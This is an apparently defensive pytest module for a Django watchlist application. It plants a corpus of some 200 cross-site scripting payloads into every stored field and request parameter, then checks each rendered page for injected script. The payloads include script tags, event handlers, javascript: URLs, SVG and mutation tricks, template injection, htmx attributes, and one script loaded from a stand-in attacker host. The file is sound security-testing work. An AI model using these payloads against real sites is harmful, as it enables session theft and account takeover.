"""IN-2: no stored or reflected cross-site scripting, on any page, export or generated SVG.

A corpus of 200 hostile strings, each carrying its own marker (``xss0042``), is written into every text field a
person can set (through a page, the API, the command line, an import or a case profile), and sent in the query
string and the form fields of every URL of the URL conf. Every URL is then read as a person with every role, the
highest clearance and the compartment, and as an administrator; every HTML answer is parsed with html5lib, the
parser browsers follow, and must hold no element or attribute that user text made:

* no ``<script>`` or ``<style>`` whose text or attributes hold a marker;
* no attribute named ``on*`` (or htmx's ``hx-on*``) whose value holds a marker;
* no ``href``/``src``/``action``/``formaction``/``xlink:href``/... starting with ``javascript:``, ``vbscript:`` or
  a ``data:`` URL other than an image and holding a marker;
* no element or attribute whose *name* holds a marker, and no marker in any attribute but the few places the
  templates put user text on purpose (``CARRIERS``: an input's value, a portion mark's title, an image's alt, a
  chart's label): an ``<img>``, ``<svg>``, ``<iframe>`` or ``hx-get`` brought in by a payload carries its marker.

Exports and the API must not be HTML at all: JSON answers are ``application/json``, CSV ``text/csv``, both with
``X-Content-Type-Options: nosniff``; HTML answers say their charset. The URL list comes from the URL conf (as in
the access matrix, ``tests/web/test_access.py``) and the field list from the models, so a new page or a new text
field is covered, or fails here until it is classified, without anyone editing this file's loops.

The classes of vectors follow the OWASP XSS Filter Evasion Cheat Sheet and the OWASP XSS Prevention Cheat Sheet
(tag and attribute injection, attribute breakout, script URLs, SVG and MathML, RCDATA/RAWTEXT breakouts, case and
entity tricks, null bytes and look-alike characters), plus server- and client-side template syntax and htmx
attributes for this stack. The strings are written here, from a few dozen bases times a few contexts.
"""

from __future__ import annotations

import datetime as dt
import itertools
import re
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlsplit

import html5lib
import pandas as pd
import pytest
import yaml
from django.apps import apps
from django.db import connection, models
from django.template import Context, Template
from django.test import Client
from django.urls import reverse

from lemkin.apps.accounts.access import PUBLIC
from lemkin.apps.accounts.models import Agency, Compartment, Person, Role
from lemkin.apps.audit.models import AuditEvent
from lemkin.apps.cases import services as case_services
from lemkin.apps.cases.models import Case
from lemkin.apps.planning.models import CatalogTool
from lemkin.apps.watchlist import tiers
from lemkin.apps.watchlist.charts import risk_history_svg, series_svg
from lemkin.apps.watchlist.models import (
    Country,
    EmergencyMeetingProposal,
    EventImport,
    Indicator,
    Judgment,
    MonthlyEventCount,
    Observation,
    Outcome,
    PriorityScore,
    RiskForecast,
    RiskRun,
    SurveillanceRequest,
    TierChange,
    TierProposal,
    WarningRule,
    WarningStatusChange,
)
from lemkin.apps.watchlist.worldmap import shapes, world_map_svg
from lemkin.core.markings import Level

from .test_access import ARTIFACTS, named_patterns, url_for, world  # noqa: F401  (world is a fixture)

# --- the corpus -------------------------------------------------------------------------------------------------
#: ``{m}`` is replaced by the vector's marker. Tag and attribute injection, script URLs, SVG/MathML, breakouts of
#: RCDATA and RAWTEXT elements, parser differentials, encodings, and template syntax (OWASP XSS Filter Evasion
#: Cheat Sheet classes; the strings themselves are written here).
BASES: tuple[str, ...] = (
    "<script>alert('{m}')</script>",
    '<script src="//attacker.invalid/{m}.js"></script>',
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(`{m}`)">',
    "<img/src=x/onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'{m}\')"><text x="9" y="9">go</text></a></svg>',
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<math href=\"javascript:alert('{m}')\">tap</math>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{m}')\">open</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}">open</a>',
    "<a href=\" JaVaScRiPt:alert('{m}')\">open</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">open</a>",
    "<object data=\"data:text/html,<script>alert('{m}')</script>\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">go</button>",
    "<body onload=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=\"alert('{m}')\"></video>",
    "<audio src=x onerror=alert('{m}')>",
    "<marquee onstart=alert('{m}')>",
    "<div style=\"background:url(javascript:alert('{m}'))\">",
    "<link rel=stylesheet href=\"javascript:alert('{m}')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<base href=\"javascript:alert('{m}')//\">",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('{m}')>",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "<img src=x onerror\x00=alert('{m}')>",
    "<\x00script>alert('{m}')</script>",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "{{{{ '<script>alert(\"{m}\")</script>'|safe }}}}",
    "{{% autoescape off %}}<script>alert('{m}')</script>{{% endautoescape %}}",
    "{{{{constructor.constructor('alert(\"{m}\")')()}}}}${{alert('{m}')}}",
    "<!--<img src=\"--><img src=x onerror=alert('{m}')//\">",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "<style>@import 'javascript:alert(\"{m}\")';</style>",
    '<div hx-get="/logout/" hx-trigger="load" id="{m}">',
    "<a hx-on:click=\"alert('{m}')\">open</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<x onclick=alert('{m}')>click",
    "<template><script>alert('{m}')</script></template>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onfocus='alert(\"{m}\")' autofocus x='",
    "x onmouseover=alert('{m}')",
    "javascript:alert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "<a onclick={m}>",
    "<svg onload={m}>",
    "\u202e<img src=x onerror=alert('{m}')>\ufeff",
)

#: Contexts a value may be written into, and the string that leaves each (attribute, RCDATA, RAWTEXT, comment).
BREAKOUTS: tuple[str, ...] = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</option></select>",
    "</pre>",
    "]]>",
    "</noscript>",
    "</style>",
)


def _mixed_case(text: str) -> str:
    """``<ScRiPt>``: alternate the case of letters outside the marker (filters that match one case miss it)."""
    out, upper = [], False
    for part in re.split(r"(xss\d{4})", text):
        if re.fullmatch(r"xss\d{4}", part):
            out.append(part)
            continue
        for char in part:
            out.append(char.upper() if upper and char.isalpha() else char)
            upper = not upper if char.isalpha() else upper
    return "".join(out)


def _tabbed(text: str) -> str:
    """Whitespace and newlines where a parser skips them but a naive filter does not."""
    return text.replace(" ", "\t", 1).replace("=", "\n=", 1)


MUTATIONS = (lambda s: s, _mixed_case, _tabbed, lambda s: s + "\r\n")


@dataclass(frozen=True)
class Vector:
    marker: str
    text: str


def corpus() -> list[Vector]:
    """200 vectors: each base in up to four (breakout, mutation) variants, each with its own marker."""
    vectors: list[Vector] = []
    numbers = itertools.count(1)
    for variant in range(4):
        for index, base in enumerate(BASES):
            if len(vectors) == 200:
                return vectors
            marker = f"xss{next(numbers):04d}"
            breakout = BREAKOUTS[(index + variant * 5) % len(BREAKOUTS)] if variant else ""
            text = breakout + MUTATIONS[variant](base.format(m=marker))
            vectors.append(Vector(marker, text))
    return vectors


VECTORS = corpus()
_MARKER = re.compile(r"xss\d{4}", re.IGNORECASE)

# --- the fields -------------------------------------------------------------------------------------------------
#: Every CharField, TextField and JSONField of Lemkin's models is here or in ``SKIPPED``, with how a person sets it.
STORED: dict[str, str] = {
    "accounts.Agency.name": "agencies page (administrators)",
    "accounts.Agency.description": "agencies page (administrators)",
    "accounts.Compartment.name": "set up by an administrator",
    "accounts.Compartment.description": "set up by an administrator",
    "accounts.Person.username": "lemkin createuser (not checked against Django's username pattern)",
    "accounts.Person.first_name": "lemkin createuser --full-name",
    "accounts.Person.last_name": "lemkin createuser --full-name",
    "accounts.Person.email": "lemkin createuser --email (not checked as an address)",
    "accounts.Person.title": "an administrator",
    "watchlist.Country.name": "country import, demo world",
    "watchlist.Country.region": "country import",
    "watchlist.Country.profile": "country import",
    "watchlist.Judgment.analyst": "the analyst's username",
    "watchlist.Judgment.rationale": "expert judgment page",
    "watchlist.Outcome.source": "lemkin watchlist outcome",
    "watchlist.Outcome.recorded_by": "the person's username",
    "watchlist.PriorityScore.rationale": "prioritisation page",
    "watchlist.PriorityScore.scored_by": "the analyst's username",
    "watchlist.RiskRun.created_by": "username or cli:<user>",
    "watchlist.RiskRun.parameters": "lemkin risk import",
    "watchlist.RiskRun.input_name": "lemkin risk import: the panel file's name",
    "watchlist.RiskRun.data_vintage": "lemkin risk import --vintage",
    "watchlist.RiskRun.dropped_rows": "lemkin risk import: reasons from the panel",
    "watchlist.RiskRun.plots": "lemkin risk import: plot names",
    "watchlist.RiskRun.drift": "lemkin risk import: lines naming countries and columns of the panel",
    "watchlist.RiskForecast.factors": "lemkin risk import: factor names from the panel's columns",
    "watchlist.Tier.name": "tier table",
    "watchlist.Tier.description": "tier table",
    "watchlist.TierChange.changed_by": "the analyst's username",
    "watchlist.TierChange.reason": "country tier page",
    "watchlist.TierProposal.factors": "risk run import: thresholds and factor names",
    "watchlist.TierProposal.decided_by": "the analyst's username",
    "watchlist.TierProposal.decision_reason": "tier proposals page",
    "watchlist.Indicator.name": "country indicators page",
    "watchlist.Indicator.description": "country indicators page",
    "watchlist.Indicator.event_source": "country indicators page (form value, not checked)",
    "watchlist.Indicator.event_type": "country indicators page",
    "watchlist.Indicator.measure": "country indicators page (form value, not checked)",
    "watchlist.Indicator.created_by": "the analyst's username",
    "watchlist.Observation.source": "the analyst's username, or an event import",
    "watchlist.EventImport.file_name": "lemkin events import: the file's name",
    "watchlist.EventImport.drift": "lemkin events import: lines naming countries and event types of the file",
    "watchlist.EventImport.imported_by": "username or cli:<user>",
    "watchlist.MonthlyEventCount.type": "lemkin events import: event type cells of the file",
    "watchlist.WarningRule.retired_reason": "country indicators page",
    "watchlist.WarningRule.created_by": "the analyst's username",
    "watchlist.Warning.reason": "written by the rules from indicator names and values",
    "watchlist.WarningStatusChange.changed_by": "the analyst's username",
    "watchlist.WarningStatusChange.reason": "warning page",
    "watchlist.EmergencyMeetingProposal.reason": "written from the warning's reason",
    "watchlist.SurveillanceRequest.what": "country indicators page",
    "watchlist.SurveillanceRequest.requested_by": "the analyst's username",
    "watchlist.SurveillanceRequest.status_reason": "surveillance request update",
    "planning.CatalogTool.source_label": "catalog page (add a tool as YAML), lemkin catalog import",
    "planning.CatalogTool.data": "catalog page, lemkin catalog import: the free-text leaves",
    "planning.CatalogTool.origin": "the catalog file's name and version",
    "planning.CatalogSource.text": "lemkin catalog import",
    "cases.Case.title": "case profile YAML (title)",
    "cases.Case.profile_yaml": "case pages and API: the case profile",
    "cases.Case.package_yaml": "review page and API: a pasted package",
}

SKIPPED: dict[str, str] = {
    "accounts.Agency.code": "a slug, checked by the agency form",
    "accounts.Compartment.code": "must match lemkin.core.markings' pattern (capitals, digits, hyphens) to be used",
    "accounts.RoleGrant.role": "choices",
    "accounts.Person.password": "a password hash, never shown",
    "audit.AuditEvent.actor": "written by the audit log from the username (a payload here; asserted below)",
    "audit.AuditEvent.agency": "written by the audit log from the agency's code (a slug)",
    "audit.AuditEvent.action": "choices",
    "audit.AuditEvent.name": "event names from the code",
    "audit.AuditEvent.object_type": "a model label",
    "audit.AuditEvent.object_id": "a primary key",
    "audit.AuditEvent.object_repr": "written by the audit log from the record's text (payloads; asserted below)",
    "audit.AuditEvent.object_marking": "a banner built by lemkin.core.markings",
    "audit.AuditEvent.detail": "written by the audit log from the changed fields (payloads; asserted below)",
    "audit.AuditEvent.request_id": "a UUID made by the server",
    "audit.AuditEvent.ip": "REMOTE_ADDR (forwarded headers are not trusted)",
    "audit.AuditEvent.prev_mac": "an HMAC in hex",
    "audit.AuditEvent.mac": "an HMAC in hex",
    "watchlist.Country.iso3": "a three-letter code, part of URLs",
    "watchlist.RiskRun.model_name": "one of the model names the command line accepts",
    "watchlist.RiskRun.model_resolved": "one of the model names the command line accepts",
    "watchlist.RiskRun.input_sha256": "a SHA-256 in hex computed from the file",
    "watchlist.RiskRun.backtest_scores": "numbers computed by the backtest",
    "watchlist.Tier.code": "a slug",
    "watchlist.Listing.watchlist": "choices",
    "watchlist.TierChange.evidence": "choices",
    "watchlist.TierProposal.watchlist": "choices",
    "watchlist.TierProposal.status": "choices",
    "watchlist.Indicator.risk_factor": "copied from the UN Framework of Analysis (unknown ids are refused)",
    "watchlist.Indicator.framework_indicator": "an id of the UN Framework of Analysis (unknown ids are refused)",
    "watchlist.EventImport.source": "ucdp_ged or acled, checked by the command line and the file's header",
    "watchlist.EventImport.sha256": "a SHA-256 in hex computed from the file",
    "watchlist.MonthlyEventCount.source": "ucdp_ged or acled, as its import",
    "watchlist.WarningRule.kind": "choices",
    "watchlist.WarningRule.parameters": "numbers, checked by add_rule (float/int)",
    "watchlist.Warning.status": "choices",
    "watchlist.WarningStatusChange.from_status": "choices",
    "watchlist.WarningStatusChange.to_status": "choices",
    "watchlist.EmergencyMeetingProposal.status": "set by the code only: proposed, scheduled or declined",
    "watchlist.SurveillanceRequest.status": "choices",
    "planning.CatalogTool.tool_id": "a slug, checked by the catalog, part of URLs",
    "planning.CatalogSource.tag": "a source tag cited by tools, checked by the catalog",
    "cases.Case.slug": "the profile's id, a slug (checked), part of URLs",
    "cases.Case.country_code": "the profile's country, an ISO 3166-1 alpha-3 code (checked)",
}

#: Free-text leaves of a catalog tool's data (the rest are enums and numbers the catalog checks).
TOOL_TEXT_KEYS = ("lead_time_basis", "lead_agency", "legal_authority")

#: Where the templates put user text into an attribute on purpose: (element, attribute) → why it is safe.
CARRIERS: dict[tuple[str, str], str] = {
    ("input", "value"): "a form field showing the query or the saved value, escaped",
    ("span", "title"): "the portion mark's title (the banner), escaped by format_html",
    ("span", "data-marking"): "the portion mark (the banner), escaped by format_html",
    ("img", "alt"): "a backtest plot's name, escaped",
    ("svg", "aria-label"): "a chart's label (the months it spans), escaped by format_html",
}

#: Attributes whose value is a URL.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "codebase", "cite", "srcdoc", "ping"}
)
_SAFE_DATA_URL = re.compile(r"^data:image/(png|jpeg|gif|webp);", re.IGNORECASE)


def text_fields() -> list[str]:
    """``app.Model.field`` for every CharField, TextField and JSONField of Lemkin's own models."""
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("lemkin."):
            continue
        for column in model._meta.concrete_fields:
            if isinstance(column, models.CharField | models.TextField | models.JSONField):
                found.append(f"{model._meta.label}.{column.name}")
    return sorted(found)


def test_every_text_field_is_stored_with_payloads_or_skipped_with_a_reason() -> None:
    """A new text field fails here until it is given payloads (``STORED``) or a reason to skip it (``SKIPPED``)."""
    fields = set(text_fields())
    assert not set(STORED) & set(SKIPPED)
    unclassified = sorted(fields - set(STORED) - set(SKIPPED))
    assert not unclassified, f"add these fields to STORED or SKIPPED in {__name__}: {unclassified}"
    stale = sorted((set(STORED) | set(SKIPPED)) - fields)
    assert not stale, f"these fields no longer exist: {stale}"


def test_the_corpus_has_200_vectors_each_with_its_own_marker() -> None:
    """A hit names the vector that made it: 200 markers, one per vector, and no vector holds another's."""
    assert len(VECTORS) == 200 == len({v.marker for v in VECTORS})
    for vector in VECTORS:
        assert {m.lower() for m in _MARKER.findall(vector.text)} == {vector.marker}, vector
    assert any("\x00" in v.text for v in VECTORS)
    assert any("<svg" in v.text.lower() for v in VECTORS)


# --- the checks ------------------------------------------------------------------------------------------------
def _local(name: Any) -> str:
    """``{namespace}name`` → ``name`` (html5lib puts SVG and MathML elements and xlink attributes in namespaces)."""
    return str(name).rsplit("}", 1)[-1].lower()


def dom_findings(body: str) -> list[str]:
    """What user text made in this document: script, handlers, script URLs, foreign elements and attributes."""
    tree = html5lib.parse(body, treebuilder="etree", namespaceHTMLElements=False)
    findings = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        tag = _local(element.tag)
        if _MARKER.search(tag):
            findings.append(f"element <{tag}> named by a payload")
        text = "".join(element.itertext()) if tag in {"script", "style"} else ""
        if tag in {"script", "style"} and _MARKER.search(text):
            findings.append(f"<{tag}> holding {_MARKER.findall(text)}: {text[:80]!r}")
        for raw_name, value in element.attrib.items():
            name = _local(raw_name)
            value = str(value)
            if _MARKER.search(name):
                findings.append(f"<{tag}> with an attribute named by a payload: {name}")
                continue
            hit = _MARKER.search(value)
            if not hit:
                continue
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            if name.startswith("on") or name.startswith("hx-on") or name.startswith("data-hx-on"):
                findings.append(f"<{tag} {name}> handler holding {hit.group()}: {value[:80]!r}")
            elif name in URL_ATTRIBUTES and (
                squeezed.startswith(("javascript:", "vbscript:"))
                or (squeezed.startswith("data:") and not _SAFE_DATA_URL.match(squeezed))
            ):
                findings.append(f"<{tag} {name}> script URL holding {hit.group()}: {value[:80]!r}")
            elif tag in {"script", "style"}:
                findings.append(f"<{tag} {name}> holding {hit.group()}")
            elif (tag, name) not in CARRIERS and not (tag == "img" and name == "src" and _SAFE_DATA_URL.match(value)):
                findings.append(f"<{tag} {name}=...> set from user text ({hit.group()}): {value[:80]!r}")
    return findings


@dataclass
class Tally:
    html: int = 0
    json: int = 0
    csv: int = 0
    other: int = 0
    markers_seen: set[str] = field(default_factory=set)
    statuses: Counter[int] = field(default_factory=Counter)
    refused: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)

    @property
    def answers(self) -> int:
        return self.html + self.json + self.csv + self.other


def check_answer(label: str, response: Any, tally: Tally) -> None:
    """Parse and check one answer (HTML), or check that it cannot be taken for HTML (JSON, CSV)."""
    chain = getattr(response, "redirect_chain", [])
    for url, _ in chain:
        target = urlsplit(url)
        if target.scheme not in {"", "http", "https"} or (target.netloc and target.netloc != "testserver"):
            tally.failures.append(f"{label}: redirected off the site to {url!r}")
    tally.statuses[response.status_code] += 1
    if response.status_code >= 400:
        tally.refused.append(f"{label}: {response.status_code}")
    if response.status_code >= 500:
        tally.failures.append(f"{label}: {response.status_code}")
    content_type = response.get("Content-Type", "")
    body = response.content.decode("utf-8", errors="replace")
    tally.markers_seen.update(m.lower() for m in _MARKER.findall(body))
    if content_type.startswith("text/html"):
        tally.html += 1
        if "charset=utf-8" not in content_type.lower():
            tally.failures.append(f"{label}: HTML without a charset: {content_type!r}")
        tally.failures.extend(f"{label}: {finding}" for finding in dom_findings(body))
        return
    if not body and response.status_code in (204, 301, 302, 303, 304):
        return
    if content_type.startswith("application/json"):
        tally.json += 1
    elif content_type.startswith("text/csv"):
        tally.csv += 1
    else:
        tally.other += 1
        tally.failures.append(f"{label}: answered {content_type!r}, neither HTML, JSON nor CSV")
        return
    if response.get("X-Content-Type-Options") != "nosniff":
        tally.failures.append(f"{label}: {content_type} without X-Content-Type-Options: nosniff")


# --- planting the payloads ---------------------------------------------------------------------------------------
class Planter:
    """Hands out vectors in turn, so that every vector lands somewhere and every field gets several."""

    def __init__(self) -> None:
        self.queue = itertools.cycle(VECTORS)
        self.landed: Counter[str] = Counter()
        self.fields: Counter[str] = Counter()
        self.values = self.serial = 0
        self.postgres = connection.vendor == "postgresql"

    def text(self, limit: int | None = None, count: int = 3) -> str:
        """Up to ``count`` vectors joined by a space, as many as fit ``limit`` (at least one)."""
        parts: list[str] = []
        for _ in range(len(VECTORS)):
            vector = next(self.queue)
            candidate = " ".join([*parts, self._storable(vector.text)])
            if limit is not None and len(candidate) > limit:
                if parts:
                    break  # full: the next value starts where this one stopped
                continue
            parts.append(self._storable(vector.text))
            self.landed[vector.marker] += 1
            if len(parts) == count:
                break
        assert parts, f"no vector fits {limit} characters"
        self.serial += 1
        text, numbered = " ".join(parts), " ".join([*parts, f"#{self.serial}"])
        return numbered if limit is None or len(numbered) <= limit else text  # unique where a field must be

    def _storable(self, text: str) -> str:
        # PostgreSQL's text type cannot hold NUL; there the null-byte vectors are sent, not stored.
        return text.replace("\x00", "\ufffd") if self.postgres else text

    def plant(self, instance: models.Model, *names: str) -> None:
        """Write vectors into ``names`` of ``instance`` through the ORM (audited, as any save)."""
        for name in names:
            limit = getattr(instance._meta.get_field(name), "max_length", None)
            value = self.text(limit, count=1 if limit and limit < 60 else 3)
            setattr(instance, name, value)
            self.note(f"{instance._meta.label}.{name}", value)
        instance.save(update_fields=list(names))

    def json_field(self, instance: models.Model, name: str, value: Any) -> None:
        setattr(instance, name, value)
        instance.save(update_fields=[name])
        self.note(f"{instance._meta.label}.{name}", value)

    def note(self, label: str, value: Any) -> None:
        """Count the vectors that ``value`` (text, or JSON data) put into the field ``label``."""
        self.fields[label] += len(_MARKER.findall(str(value)))
        self.values += 1


#: Fields given their payloads one by one in ``plant_everything`` (YAML, JSON shapes); the rest row by row.
PLANTED_ABOVE = frozenset(
    {
        "cases.Case.title",
        "cases.Case.profile_yaml",
        "cases.Case.package_yaml",
        "planning.CatalogTool.data",
        "watchlist.RiskRun.parameters",
        "watchlist.RiskRun.dropped_rows",
        "watchlist.RiskRun.drift",
        "watchlist.RiskRun.plots",
        "watchlist.RiskForecast.factors",
        "watchlist.TierProposal.factors",
        "watchlist.EventImport.drift",
    }
)


def plant_everything(world: dict[str, Any], planter: Planter) -> dict[str, Any]:  # noqa: F811
    """Extra records so that every template has something to show, then vectors in every ``STORED`` field."""
    people = world["people"]
    author = people["planner"]
    public = world["public"]
    # A real country (the world map draws only those) and a case profile whose free text is hostile.
    real = Country.objects.create(iso3="FRA", name="placeholder", is_exercise=False)
    tiers.change_tier(author, real, "atrocities", "high_and_rising", "placeholder")
    run = world["public_run"]
    RiskForecast.objects.create(run=run, country=real, risk_2yr=0.3, rank_2yr=1, risk_1yr=0.2, rank_1yr=1)
    later = RiskRun.objects.get(pk=run.pk)
    later.pk, later.base_year = None, 2025
    later.save()
    RiskForecast.objects.create(run=later, country=public, risk_2yr=0.2, rank_2yr=1, risk_1yr=0.1, rank_1yr=1)
    TierProposal.objects.filter(pk=world["public_proposal"].pk).update(status="rejected")
    indicator = Indicator.objects.filter(country=public).first()
    assert indicator is not None
    month = dt.date(2025, 1, 1)
    for step in range(3):
        Observation.objects.create(
            indicator=indicator, month=dt.date(2025, 1 + step, 1), value=step + 1.0, source="placeholder"
        )
    Indicator.objects.create(country=public, name="t", created_by="t", event_source="acled", event_type="t")
    for step in range(3):  # three rows where a field is too short for more than one vector a row
        event_import = EventImport.objects.create(
            source="acled",
            file_name="t",
            sha256="0" * 64,
            n_rows=1,
            n_monthly=1,
            first_month=month,
            last_month=month,
            imported_by="t",
        )
        MonthlyEventCount.objects.create(
            event_import=event_import,
            source="acled",
            country=public,
            month=month,
            type=f"t{step}",
            events=1,
            fatalities=0,
        )
        WarningStatusChange.objects.create(
            warning=world["public_warning"], from_status="new", to_status="acknowledged", changed_by="t", reason="t"
        )
    retired = WarningRule.objects.create(
        indicator=indicator, kind="threshold", parameters={"value": 5}, created_by="t", active=False
    )
    EmergencyMeetingProposal.objects.create(country=public, warning=world["public_warning"], reason="t")
    SurveillanceRequest.objects.filter(pk=world["public_request"].pk).update(status_reason="t")
    horizon = dt.datetime.now(dt.UTC).year
    for year in (horizon - 1, horizon, horizon + 1):
        Outcome.objects.create(country=public, year=year, onset=False, source="t", recorded_by="t")
    for person in ("analyst", "planner"):
        Judgment.objects.create(
            country=public,
            analyst=person,
            probability=0.2 if person == "analyst" else 0.9,
            horizon_start=horizon,
            horizon_end=horizon + 1,
            rationale="t",
        )
    PriorityScore.objects.create(country=public, influence=3, interests=4, rationale="t", scored_by="t")
    Compartment.objects.get_or_create(code="OSPREY", defaults={"name": "t"})

    # Cases: hostile free text in the profile (through the service, as the case pages and API do) and a package.
    for key in ("public_case", "secret_case"):
        case = Case.objects.get(pk=world[key].pk)
        data = yaml.safe_load(case.profile_yaml)
        data["title"] = planter.text(300, count=2)
        data["sources"] = [planter.text(count=2) for _ in range(2)]
        actors = data["actors"]
        for group in ("decision_makers", "perpetrators", "third_parties"):
            actors[group] = [planter.text(count=2) for _ in range(2)]
        actors["victims"]["groups"] = [planter.text(count=2)]
        actors["victims"]["locations"] = [planter.text(count=2)]
        for partner in data["partners"]:
            partner["name"] = planter.text(count=1)
        data["constraints"]["us_interests_at_stake"] = [planter.text(count=2)]
        text = "# " + planter.text(count=1).replace("\n", " ").replace("\r", " ") + "\n"
        text += yaml.safe_dump(data, sort_keys=False, allow_unicode=True)
        case_services.update_profile(case, text, case.version)
        planter.note("cases.Case.title", case.title)
        planter.note("cases.Case.profile_yaml", case.profile_yaml)
        books = [b.id for b in case_services.current_library().playbooks][:2]
        case_services.apply_playbooks(case, books, case.version)
        package = yaml.safe_load(case.package_yaml)
        hostile_actor = planter.text(count=2)
        for items in package.get("phases", {}).values():
            for item in items:
                item["actors"] = [hostile_actor]
        case_services.save_package_text(case, yaml.safe_dump(package, allow_unicode=True), case.version)
        planter.note("cases.Case.package_yaml", case.package_yaml)

    # Catalog: the free-text leaves of every tool (enums and numbers are checked by the catalog and left alone).
    for tool in CatalogTool.objects.all():
        data = dict(tool.data)
        for key in TOOL_TEXT_KEYS:
            data[key] = planter.text(count=1)
        data["effectiveness"] = {**data.get("effectiveness", {}), "evidence": planter.text(count=1)}
        tool.data = data
        tool.save(update_fields=["data"])
        planter.note("planning.CatalogTool.data", data)

    # JSON fields in the shape the import writes, with hostile names and lines.
    for risk_run in RiskRun.objects.all():
        planter.json_field(risk_run, "parameters", {"alpha": 0.5, planter.text(count=1): planter.text(count=1)})
        planter.json_field(risk_run, "dropped_rows", {planter.text(count=1): 3, planter.text(count=1): 1})
        planter.json_field(risk_run, "drift", [planter.text(count=1) for _ in range(3)])
        planter.json_field(
            risk_run, "plots", {planter.text(count=1): "iVBORw0KGgo=" + planter.text(count=1).replace('"', "")}
        )
        RiskRun.objects.filter(pk=risk_run.pk).update(backtest_scores={"auc": 0.8, "brier": 0.1})
    for forecast in RiskForecast.objects.all():
        planter.json_field(forecast, "factors", [[planter.text(count=1), 0.5], [planter.text(count=1), -0.2]])
    for proposal in TierProposal.objects.all():
        planter.json_field(proposal, "factors", [planter.text(count=1), planter.text(count=1)])
    for item in EventImport.objects.all():
        planter.json_field(item, "drift", [planter.text(count=1) for _ in range(2)])

    # Every other stored field, on every row.
    by_model: dict[str, list[str]] = {}
    for label in STORED:
        if label not in PLANTED_ABOVE:
            model_label, name = label.rsplit(".", 1)
            by_model.setdefault(model_label, []).append(name)
    for model_label, names in by_model.items():
        for instance in apps.get_model(model_label).objects.all():
            planter.plant(instance, *names)
    rule = WarningRule.objects.filter(indicator=indicator, active=True).first()
    assert retired.pk
    assert rule is not None
    return {"real": real, "indicator": indicator, "rule": rule}


# --- reflected input ---------------------------------------------------------------------------------------------
#: Every query parameter a view reads.
QUERY_PARAMETERS = (
    "q",
    "min",
    "format",
    "next",
    "status",
    "phase",
    "table",
    "type",
    "start",
    "period",
    "capacity",
    "risk",
    "influence",
    "interests",
    "actor",
    "action",
    "page",
    "search",
)

#: Every form field a view reads, and the API's JSON body fields.
FORM_FIELDS = (
    "reason",
    "name",
    "what",
    "rationale",
    "profile",
    "package",
    "tool",
    "description",
    "event_type",
    "event_source",
    "measure",
    "kind",
    "value",
    "factor",
    "months",
    "z",
    "minimum",
    "month",
    "starts",
    "ends",
    "to",
    "decision",
    "amended_to",
    "watchlist",
    "tier",
    "probability",
    "start",
    "influence",
    "interests",
    "classification",
    "compartment",
    "code",
    "token",
    "username",
    "next",
    "playbook",
)

#: Forms posted a second time with valid choices, numbers and dates, so that the hostile text in the other fields
#: is saved through the page and shown by the page it redirects to (the first post, all hostile, shows errors).
#: The tier goes to high and rising first (the URL conf lists that page first): surveillance needs it.
VALID_FORMS: dict[str, list[dict[str, str]]] = {
    "watchlist:country-indicators": [
        {"action": "indicator", "framework_indicator": "", "event_source": "", "measure": "", "event_type": ""},
        {"action": "rule", "kind": "threshold", "value": "2", "factor": "", "z": "", "months": "", "minimum": ""},
        {"action": "retire"},
        {"action": "observation", "month": "2026-01", "value": "3"},
        {"action": "surveillance", "starts": "2026-01-01", "ends": "2026-03-01"},
    ],
    "watchlist:country-tier": [{"watchlist": "atrocities", "tier": "high_and_rising"}],
    "watchlist:country-judgments": [{"probability": "30", "start": "2026"}],
    "watchlist:prioritisation": [{"iso3": "XPU", "influence": "3", "interests": "4"}],
    "watchlist:proposal-decide": [{"decision": "reject", "amended_to": ""}],
    "watchlist:warning-detail": [{"to": "acknowledged"}],
    "watchlist:surveillance-update": [{"to": "active"}],
    "accounts:agency-list": [{"code": "HOSTILE", "is_active": "on"}],
    "login": [{"acknowledge": "on", "password": "wrong"}],
}


#: Vectors in each query parameter, one request after the other: one alone (a URL must start with it to be run),
#: or a dozen joined (so that each parameter of each page meets many contexts in few requests).
ROUNDS = (1, 12, 1, 12)


def hostile_query(vectors: Iterator[Vector], pack: int) -> dict[str, str]:
    return {name: " ".join(next(vectors).text for _ in range(pack)) for name in QUERY_PARAMETERS}


def hostile_form(vectors: Iterator[Vector], keep_nul: bool, pack: int = 4, **fixed: Any) -> dict[str, Any]:
    """A form body with vectors in every field. A NUL character makes the whole request a 400 (no field accepts
    one), so bodies meant to be saved have theirs replaced."""
